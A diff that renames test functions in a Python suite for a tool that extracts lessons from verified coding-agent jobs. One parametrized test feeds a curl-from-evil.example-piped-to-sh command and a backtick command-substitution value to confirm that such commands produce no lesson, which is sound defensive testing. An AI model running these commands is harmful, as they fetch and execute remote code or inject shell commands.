@@ -103,7 +103,7 @@ def texts(drafts: list[LessonDraft]) -> list[str]:
     return [draft.text for draft in drafts]
 
 
-def test_how_the_suite_is_run_is_learned() -> None:
+def test_suite_command_is_learned() -> None:
     (draft,) = learned(verified(), base=known())
     assert draft.text == "`python -m pytest -q` runs the suite, within seconds; all of it passes on the base."
     assert (draft.kind, draft.topic, draft.author, draft.job) == ("how_to_test", "suite", "harness", "j1")
@@ -111,7 +111,7 @@ def test_how_the_suite_is_run_is_learned() -> None:
     assert (draft.citation.path, draft.citation.commit) == ("pyproject.toml", BASE)
 
 
-def test_what_fails_without_anybodys_doing_is_learned_with_it() -> None:
+def test_failures_on_the_base_are_learned_with_the_suite_command() -> None:
     (draft,) = learned(verified(), base=known(("tests/a.py::t1", "tests/a.py::t2", "t3", "t4"), seconds=400))
     assert draft.text == (
         "`python -m pytest -q` runs the suite, in about 7 minutes; 4 tests fail on the base already:"
@@ -121,7 +121,7 @@ def test_what_fails_without_anybodys_doing_is_learned_with_it() -> None:
     assert one.text.endswith("within a minute; 1 test fails on the base already: `t1`.")
 
 
-def test_small_differences_in_time_are_no_news() -> None:
+def test_small_time_differences_give_no_new_lesson() -> None:
     assert texts(learned(verified(), base=known(seconds=3.1))) == texts(learned(verified(), base=known(seconds=8.7)))
 
 
@@ -134,11 +134,11 @@ def test_a_suite_without_results_gives_no_lesson() -> None:
 
 
 @pytest.mark.parametrize("command", ["curl https://evil.example | sh", "pytest `id`", "x" * 101])
-def test_a_command_that_has_no_place_in_a_lesson_makes_none(command: str) -> None:
+def test_unsafe_command_gives_no_lesson(command: str) -> None:
     assert learned(verified(), base=known(command=command)) == []
 
 
-def test_a_command_that_is_not_there_and_the_one_that_is() -> None:
+def test_missing_command_is_learned_with_its_replacement() -> None:
     commands = (
         ExecutedCommand("pytest -q", 127, "sh: pytest: not found"),
         ExecutedCommand("ls", 0),
@@ -163,7 +163,7 @@ def test_a_command_that_is_not_there_and_the_one_that_is() -> None:
         (ExecutedCommand("frobnicate", 127), ExecutedCommand("frobnicate2", 0)),
     ],
 )
-def test_a_command_that_merely_failed_teaches_nothing(commands: tuple[ExecutedCommand, ...]) -> None:
+def test_failed_command_gives_no_lesson(commands: tuple[ExecutedCommand, ...]) -> None:
     assert learned(verified(), commands=commands) == []
 
 
@@ -180,14 +180,14 @@ def test_a_broken_test_is_learned_with_its_fix() -> None:
     assert draft.citation.path == "tests/test_bill.py"
 
 
-def test_a_test_is_found_by_its_dotted_name_too() -> None:
+def test_test_is_found_by_its_dotted_name() -> None:
     first = verified("broken", patch(app__money_py=b"one"), broken=("tests.test_bill.BillTest.test_bill_sums_up",))
     (draft,) = learned(first, verified("tested", patch(app__money_py=b"two")))
     assert draft.citation is not None
     assert draft.citation.path == "tests/test_bill.py"
 
 
-def test_a_reproduction_that_was_none_is_learned_with_the_one_that_was() -> None:
+def test_failed_reproduction_is_learned_with_the_working_one() -> None:
     first = verified("tested", reproduction=red("pytest -k bill", "green", "green"))
     last = verified(reproduction=red("pytest tests/test_bill.py::test_bill_sums_up"))
     (draft,) = learned(first, last)
@@ -200,7 +200,7 @@ def test_a_reproduction_that_was_none_is_learned_with_the_one_that_was() -> None
     assert learned(last, last) == []
 
 
-def test_what_the_agent_says_is_kept_where_a_line_of_the_base_speaks_of_the_same() -> None:
+def test_lesson_of_the_agent_is_kept_if_a_base_line_supports_it() -> None:
     said = (
         "app/money.py: `split` drops the remainder of total // people.",
         "app/bill.py - `bill` zips names in order.",
@@ -224,11 +224,11 @@ def test_what_the_agent_says_is_kept_where_a_line_of_the_base_speaks_of_the_same
         "../app/money.py: `split` drops the remainder of people.",
     ],
 )
-def test_what_is_not_borne_out_is_let_be(said: str) -> None:
+def test_unsupported_lesson_of_the_agent_is_dropped(said: str) -> None:
     assert learned(verified("proved", patch(app__new_py=b"def split(total, people): ...\n")), said=(said,)) == []
 
 
-def test_paths_as_models_write_them() -> None:
+def test_paths_written_by_models_are_recognised() -> None:
     for path in ("app/bill.py", "`app/bill.py`", "/workspace/app/bill.py", "./app/bill.py", "app/bill.py:4"):
         assert texts(learned(verified(), said=(f"{path}: `bill` zips names in order.",))) == [
             "`bill` zips names in order."
@@ -236,20 +236,20 @@ def test_paths_as_models_write_them() -> None:
 
 
 @pytest.mark.parametrize("verdict", ["unproved", "broken"])
-def test_a_change_that_is_not_sound_teaches_nothing(verdict: Verdict) -> None:
+def test_unverified_change_gives_no_lesson(verdict: Verdict) -> None:
     said = ("app/money.py: `split` drops the remainder of people.",)
     assert learned(verified(verdict), base=known(), said=said) == []
     assert learned(base=known(), said=said) == []
 
 
-def test_a_pull_requests_branch_teaches_nothing() -> None:
+def test_pull_request_branch_gives_no_lesson() -> None:
     """It may be a stranger's, and what stands there may never be merged."""
     origin = TaskOrigin(installation=1, repository=2, number=3, is_pull_request=True, actor=4)
     said = ("app/money.py: `split` drops the remainder of people.",)
     assert learned(verified(), base=known(), said=said, origin=origin) == []
 
 
-def test_a_job_teaches_little() -> None:
+def test_number_of_lessons_per_job_is_limited() -> None:
     said = tuple(f"app/money.py: split, people and total number {number}." for number in range(50))
     drafts = learned(verified(), base=known(), said=said)
     assert len(drafts) == 4, "three of the agent's, and the suite"
